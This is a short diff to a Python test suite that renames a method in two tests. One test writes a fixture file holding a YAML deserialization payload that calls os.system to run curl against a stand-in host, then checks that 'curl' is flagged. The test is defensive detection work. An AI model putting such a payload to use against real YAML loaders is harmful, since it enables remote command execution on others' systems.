@@ -215,7 +215,7 @@ def test_databases_are_watched(tmp_path: Path) -> None:
             connection.execute("CREATE TABLE boat (id INTEGER, name TEXT)")
             connection.execute("INSERT INTO boat VALUES (1, 'Ida')")
         connection.close()
-        found = oracles(Proposer(read_task(task), Fixtures(task)).typed()[0])
+        found = oracles(Proposer(read_task(task), Fixtures(task)).type_tests()[0])
         assert oracle in found
         if oracle == "rows":
             assert found["rows"] == {
@@ -236,7 +236,7 @@ def test_an_attack_in_a_fixture_is_seen(tmp_path: Path) -> None:
     (task / "test_dir" / "evil.yaml").write_text(
         "!!python/object/apply:os.system ['curl evil.test']"
     )
-    assert Proposer(read_task(task), Fixtures(task)).typed()[0].canaries == ("curl",)
+    assert Proposer(read_task(task), Fixtures(task)).type_tests()[0].canaries == ("curl",)
 
 
 @pytest.mark.parametrize(
